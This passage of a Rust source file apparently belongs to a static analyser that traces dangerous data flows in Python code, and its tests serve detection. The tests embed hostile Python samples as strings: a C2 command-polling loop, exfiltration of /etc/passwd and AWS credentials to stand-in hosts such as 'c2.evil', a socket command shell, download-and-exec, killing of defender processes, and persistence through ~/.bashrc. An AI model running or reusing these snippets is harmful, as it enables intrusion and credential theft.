/// its leftmost leaf ([`Module::head`]): `loot[t]` → `loot`, `obj.attr` →
/// `obj`, `'s'` → empty.
pub(crate) fn target_base<'m>(target: &'m Expr, module: &'m Module) -> &'m str {
    match *module.head(target) {
        Expr::Name(s) | Expr::Num(s) => leading_ident(s.text(module.source())),
        Expr::Other(text) => leading_ident(module.owned(text)),
        _ => "",
    }
}

/// The leading run of ASCII identifier bytes of `text`.
fn leading_ident(text: &str) -> &str {
    let end = text
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(text.len());
    &text[..end]
}

/// The next identifier-shaped word of reconstructed text from `*pos`,
/// skipping quoted runs and words that start with a digit. A quoted run
/// does not end a word: `a'x'b` reads as `ab`, the one shape whose word
/// is not a slice of `text` and is built in `glued`.
fn ident_word<'a>(text: &'a str, pos: &mut usize, glued: &'a mut String) -> Option<&'a str> {
    let bytes = text.as_bytes();
    // The word so far, `start..end`, and whether a quoted run split it.
    let (mut word, mut split, mut quote) = (None::<(usize, usize)>, false, None);
    loop {
        let b = bytes.get(*pos).copied();
        *pos += 1;
        match (b, quote) {
            (Some(b), Some(q)) => {
                if b == q {
                    quote = None;
                }
            }
            (Some(b @ (b'\'' | b'"')), None) => quote = Some(b),
            (Some(b), None) if b.is_ascii_alphanumeric() || b == b'_' => match &mut word {
                Some((_, end)) if *end == *pos - 1 && !split => *end += 1,
                Some((start, end)) => {
                    if !split {
                        glued.clear();
                        glued.push_str(&text[*start..*end]);
                        split = true;
                    }
                    glued.push(char::from(b));
                }
                None => word = Some((*pos - 1, *pos)),
            },
            // A separator, or the end of the text (also inside an
            // unclosed quote).
            _ => {
                if let Some((start, end)) = word.take() {
                    if !bytes[start].is_ascii_digit() {
                        return Some(if split { glued } else { &text[start..end] });
                    }
                }
                split = false;
                // The end of the text ends the iteration.
                b?;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flows(src: &str) -> Vec<FlowFinding> {
        let flows = analyze(&pysrc::parse_module(src)).flows;
        flows.into_iter().map(Arc::unwrap_or_clone).collect()
    }

    fn labels(src: &str) -> Vec<String> {
        flows(src).into_iter().map(|f| f.label).collect()
    }

    #[test]
    fn c2_fetch_to_system() {
        let src = "def f():\n    import requests, os\n    while True:\n        try:\n            cmd = requests.get('https://c2.example/tasks', timeout=5).text\n            if cmd:\n                os.system(cmd)\n        except Exception:\n            pass\n";
        let fs = flows(src);
        assert_eq!(fs.len(), 1, "{fs:?}");
        assert_eq!(fs[0].source, "requests.get");
        assert_eq!(fs[0].sink, "os.system");
        assert_eq!(fs[0].label, "flow:net-fetch->proc-exec");
        // The chain names the carrier assignment and both endpoints.
        assert!(fs[0].steps.len() >= 3, "{:?}", fs[0].steps);
        assert!(fs[0].steps.iter().any(|s| s.note.contains("cmd =")));
    }

    /// Shapes with one flow each, as `label source sink`.
    #[test]
    fn each_shape_has_its_one_flow() {
        for (src, flow) in [
            // Aliases through `import ... as`.
            (
                "import os as o\nimport requests as r\ncmd = r.get('http://x').text\no.system(cmd)\n",
                "flow:net-fetch->proc-exec requests.get os.system",
            ),
            (
                "from subprocess import run as r\nfrom os import environ\nr(environ.get('PATH'), shell=True)\n",
                "flow:env-read->proc-exec os.environ.get subprocess.run",
            ),
            // Textual obfuscators rewrite `requests.post` to the alias
            // bound by an `import requests as ctx` that lives in a
            // *different* function. The module-wide fallback keeps the
            // rewritten spelling resolvable.
            (
                "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    import os, requests\n    data = open('/etc/passwd').read()\n    ctx.post('http://c2.evil', json=data)\n",
                "flow:file-read->net-send open requests.post",
            ),
            // `getattr` indirection folds to the dotted path, and so does
            // the string arm's own output shape: module and attribute
            // both reconstructed at runtime.
            (
                "import os, requests\ncmd = getattr(requests, 'get')('http://x').text\ngetattr(os, 'system')(cmd)\n",
                "flow:net-fetch->proc-exec requests.get os.system",
            ),
            (
                "data = input()\ngetattr(__import__('o' + 's'), 'sys' + 'tem')(data)\n",
                "flow:stdin-read->proc-exec input os.system",
            ),
            (
                "def f():\n    import os, requests\n    env = dict(os.environ)\n    requests.post('https://x/collect', json=env)\n",
                "flow:env-read->net-send os.environ requests.post",
            ),
            // Through a subscript target, a dict literal argument, a
            // `for` header and direct nesting.
            (
                "def f():\n    import os, requests\n    loot = {}\n    for t in ['~/.aws/credentials']:\n        path = os.path.expanduser(t)\n        loot[t] = open(path).read()\n    requests.post('https://h/x', json=loot)\n",
                "flow:file-read->net-send open requests.post",
            ),
            (
                "import subprocess, requests\nemail = subprocess.check_output(['git', 'config', 'user.email']).decode()\nrequests.post('https://h/x', json={'email': email})\n",
                "flow:proc-read->net-send subprocess.check_output requests.post",
            ),
            (
                "def f():\n    import os, signal\n    for line in os.popen('ps ax').readlines():\n        if 'defender' in line:\n            pid = int(line.split()[0])\n            os.kill(pid, signal.SIGKILL)\n",
                "flow:proc-read->proc-control os.popen os.kill",
            ),
            (
                "import requests\nrequests.post('https://h/x', data=open('/etc/passwd', 'rb').read())\n",
                "flow:file-read->net-send open requests.post",
            ),
            // A write through a handle on a startup path, with and
            // without `expanduser`.
            (
                "def f():\n    import os\n    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n        rc.write('python3 /tmp/.x.py &\\n')\n",
                "flow:startup-open->startup-write open[~/.bashrc] rc.write",
            ),
            (
                "def f():\n    with open('/etc/hosts', 'a') as hosts:\n        hosts.write('0.0.0.0 x\\n')\n",
                "flow:startup-open->startup-write open[/etc/hosts] hosts.write",
            ),
        ] {
            let fs = flows(src);
            let got: Vec<String> = fs
                .iter()
                .map(|f| format!("{} {} {}", f.label, f.source, f.sink))
                .collect();
            assert_eq!(got, [flow], "{src}");
        }
    }

    #[test]
    fn local_binding_shadows_the_global_alias_fallback() {
        // `ctx` is a plain local constant in `b`; the sibling import
        // alias must not hijack it into `requests.post`.
        let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    ctx = 'label'\n    data = open('/etc/passwd').read()\n    ctx.post(data)\n";
        let fs = flows(src);
        assert!(fs.is_empty(), "{fs:?}");
    }

    #[test]
    fn socket_recv_to_subprocess_and_send_back() {
        let src = "def serve():\n    import socket, subprocess\n    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    while True:\n        conn, _addr = srv.accept()\n        data = conn.recv(1024).decode()\n        out = subprocess.run(data, shell=True, capture_output=True)\n        conn.send(out.stdout + out.stderr)\n";
        let ls = labels(src);
        assert!(
            ls.contains(&"flow:socket-recv->proc-exec".to_owned()),
            "{ls:?}"
        );
        assert!(
            ls.contains(&"flow:socket-recv->socket-send".to_owned()),
            "{ls:?}"
        );
    }

    #[test]
    fn download_to_exec_compile() {
        let src = "def inject():\n    import requests\n    src = requests.get('https://h/i.py').text\n    exec(compile(src, 'inject', 'exec'))\n";
        let fs = flows(src);
        let sinks: Vec<&str> = fs.iter().map(|f| f.sink.as_str()).collect();
        assert!(sinks.contains(&"compile"), "{fs:?}");
        assert!(sinks.contains(&"exec"), "{fs:?}");
    }

    #[test]
    fn async_blocks_read_their_headers_like_sync_ones() {
        for prefix in ["", "async "] {
            let src = format!("{prefix}with open(os.environ['K']) as f:\n    os.system(f)\n");
            assert_eq!(flows(&src).len(), 1, "{src}");
            let src = format!("{prefix}for line in os.popen('ps'):\n    os.kill(line, 9)\n");
            assert_eq!(labels(&src), ["flow:proc-read->proc-control"], "{src}");
        }
    }

    #[test]
    fn benign_patterns_produce_no_flows() {
        // The legit corpus shapes: constant subprocess args, tainted
        // data that is only returned, fetches whose args are clean.
        for src in [
            "import subprocess\nsubprocess.run(['git', 'describe', '--tags'], capture_output=True)\n",
            "def v():\n    with open('VERSION.txt') as fh:\n        return fh.read().strip()\n",
            "import os\ndef home():\n    return os.environ.get('HOME', '')\n",
            "import requests\ndef latest(repo):\n    resp = requests.get('https://api.github.com/repos/%s/releases/latest' % repo, timeout=10)\n    resp.raise_for_status()\n    return resp.json()['tag_name']\n",
            "import base64\ndef uri(path):\n    with open(path, 'rb') as fh:\n        payload = base64.b64encode(fh.read()).decode('ascii')\n    return 'data:application/octet-stream;base64,' + payload\n",
        ] {
            assert!(flows(src).is_empty(), "unexpected flow in {src}");
        }
    }

    #[test]
    fn folding_recovers_split_and_encoded_constants() {
        let b64 = digest::base64::encode(b"https://evil.example/x");
        let src = format!(
            "u = ('https://' + 'evil.example' + '/x')\nv = __import__('base64').b64decode('{b64}').decode('utf-8')\nw = bytes.fromhex('6576696c').decode('utf-8')\n"
        );
        let summary = analyze(&pysrc::parse_module(&src));
        let texts: Vec<&str> = summary.folded.iter().map(|f| f.text.as_str()).collect();
        assert!(texts.contains(&"https://evil.example/x"), "{texts:?}");
        assert!(texts.contains(&"evil"), "{texts:?}");
        assert_eq!(
            texts
                .iter()
                .filter(|t| **t == "https://evil.example/x")
                .count(),
            2,
            "concat and b64 both recover the URL: {texts:?}"
        );
    }

    #[test]
    fn percent_format_folds() {
        let src = "host = 'c2.evil'\nurl = 'https://%s/x' % host\n";
        let summary = analyze(&pysrc::parse_module(src));
        assert!(
            summary.folded.iter().any(|f| f.text == "https://c2.evil/x"),
            "{:?}",
            summary.folded
        );
    }

    #[test]
    fn rename_invariance_of_labels() {
        let orig = "import os, requests\ncmd = requests.get('https://c2/t').text\nos.system(cmd)\n";
        let renamed =
            "import os, requests\nqz_1 = requests.get('https://c2/t').text\nos.system(qz_1)\n";
        assert_eq!(labels(orig), labels(renamed));
    }

    #[test]
    fn summary_is_sorted_and_deduped() {
        let src =
            "import os, requests\nc = requests.get('http://x').text\nos.system(c)\nos.system(c)\n";
        let s = analyze(&pysrc::parse_module(src));
        assert_eq!(s.flows.len(), 1);
        let mut sorted = s.flows.clone();
        sorted.sort();
        assert_eq!(sorted, s.flows);
    }

    #[test]
    fn a_function_scope_overlays_the_module_scope() {
        // A parameter hides the module constant of its name, a sibling
        // still sees it, and a function's own bindings stay inside it.
        let src = "import os\nhost = 'c2.evil'\ndef f(host):\n    a = 'https://%s/a' % host\ndef g():\n    b = 'https://%s/b' % host\ndef h():\n    host = input()\nos.system(host)\nc = 'https://%s/c' % host\n";
        let summary = analyze(&pysrc::parse_module(src));
        let texts: Vec<&str> = summary.folded.iter().map(|f| f.text.as_str()).collect();
        assert_eq!(texts, ["https://c2.evil/b", "https://c2.evil/c"]);
        assert!(summary.flows.is_empty(), "{:?}", summary.flows);
    }

    #[test]
    fn ident_words_read_through_quoted_runs() {
        let (mut pos, mut glued, mut words) = (0, String::new(), Vec::new());
        let text = "a'x'b c1 9z 'q' _d \"e";
        while let Some(word) = ident_word(text, &mut pos, &mut glued) {
            words.push(word.to_owned());
        }
        assert_eq!(words, ["ab", "c1", "_d"]);
    }

    #[test]
    fn deep_or_hostile_input_is_bounded() {
        // A pathological chain must not blow up steps or flows.
        let mut src = String::from("import os\nx0 = input()\n");
        for i in 1..40 {
            src.push_str(&format!("x{i} = x{} + 'a'\n", i - 1));
        }
        src.push_str("os.system(x39)\n");
        let fs = flows(&src);
        assert_eq!(fs.len(), 1);
        assert!(fs[0].steps.len() <= MAX_STEPS as usize);
        // The head of the chain and the sink survive.
        assert_eq!(fs[0].steps[2].note, "x1 = x0 + 'a'");
        assert_eq!(fs[0].steps[11].note, "reaches sink os.system(...)");
    }
}
